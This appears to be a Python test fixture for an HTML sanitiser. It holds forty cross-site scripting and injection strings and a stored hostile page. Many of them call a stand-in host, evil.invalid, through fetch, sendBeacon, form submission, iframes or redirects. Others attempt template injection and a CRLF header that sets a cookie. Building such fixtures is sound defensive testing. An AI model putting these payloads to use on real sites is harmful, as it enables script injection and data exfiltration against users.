"""Forty texts that mean harm, wherever they come to stand on a page."""

from __future__ import annotations

#: Each tries to run a script, to call out, to leave its element, or to upset whoever reads the page.
PAYLOADS = (
    "<script>document.title='owned'</script>",
    "</title><script>document.title='owned'</script>",
    "</textarea></style></script><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<img src=http://evil.invalid/pixel>",
    "<svg onload=document.title='owned'>",
    "<svg><script>document.title='owned'</script></svg>",
    "\"><svg onload=document.title='owned'>",
    "'><img src=x onerror=document.title='owned'>",
    '" onmouseover="document.title=\'owned\'" autofocus onfocus="document.title=\'owned\'" x="',
    "' onfocus='document.title=`owned`' autofocus='",
    "<iframe srcdoc='<script>parent.document.title=`owned`</script>'></iframe>",
    "<iframe src=http://evil.invalid/></iframe>",
    "<object data=http://evil.invalid/x></object>",
    "<embed src=http://evil.invalid/x>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<style>@import 'http://evil.invalid/x.css';body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href=http://evil.invalid/>",
    "<form action=http://evil.invalid/><button autofocus>go</button></form>",
    "<a href=javascript:document.title='owned'>click</a>",
    "<details open ontoggle=document.title='owned'>",
    "<video><source onerror=document.title='owned'></video>",
    "<body onload=document.title='owned'>",
    "<input autofocus onfocus=document.title='owned'>",
    "<math><mtext></mtext><script>document.title='owned'</script></math>",
    "<!--><script>document.title='owned'</script>-->",
    "<![CDATA[<script>document.title='owned'</script>]]>",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "&#60;script&#62;document.title='owned'&#60;/script&#62;",
    "\\u003cscript\\u003edocument.title='owned'\\u003c/script\\u003e",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}%(x)s{0}{n}{to}",
    "javascript:document.title='owned'",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>document.title='owned'</script>",
    "//evil.invalid/%2e%2e",
    "\u202e\u2066drowssap\u2069 a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "x" * 3000 + "<script>document.title='owned'</script>",
    "\x00\x0b\x1b[31m\r\nSet-Cookie: owned=1\r\n\r\n<script>document.title='owned'</script>",
)

#: A page that a site might have sent, and that we keep as it is: whatever a page can do, it tries.
STORED = b"""<!doctype html><html><head><title>stored</title>
<meta http-equiv="refresh" content="0;url=http://evil.invalid/refresh"><base href="http://evil.invalid/">
<link rel="stylesheet" href="http://evil.invalid/x.css"><link rel="preload" as="image" href="http://evil.invalid/p.png">
<link rel="prefetch" href="http://evil.invalid/prefetch"><link rel="dns-prefetch" href="//evil.invalid">
<style>@import url(http://evil.invalid/i.css);body{background:url(http://evil.invalid/b.png)}</style>
<script src="http://evil.invalid/x.js"></script><script>top.document.title='owned';fetch('http://evil.invalid/f')</script>
</head><body onload="top.document.title='owned'"><h1>stored page</h1>
<img src="http://evil.invalid/i.png" srcset="http://evil.invalid/2x.png 2x" onerror="top.document.title='owned'">
<picture><source srcset="http://evil.invalid/s.png"><img src="/relative.png"></picture>
<video src="http://evil.invalid/v.mp4" poster="http://evil.invalid/p.jpg" autoplay></video>
<audio src="http://evil.invalid/a.mp3" autoplay></audio><embed src="http://evil.invalid/e"><object data="http://evil.invalid/o"></object>
<iframe src="http://evil.invalid/frame"></iframe><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
<form id="f" action="http://evil.invalid/form"><input name="a" autofocus onfocus="top.document.title='owned'"></form>
<script>document.getElementById('f').submit();new Worker('http://evil.invalid/w.js');navigator.sendBeacon('http://evil.invalid/b')</script>
<svg onload="top.document.title='owned'"><image href="http://evil.invalid/svg.png"/><use href="http://evil.invalid/u.svg#x"/></svg>
<a id="a" href="javascript:top.document.title='owned'" ping="http://evil.invalid/ping" autofocus>click</a></body></html>"""
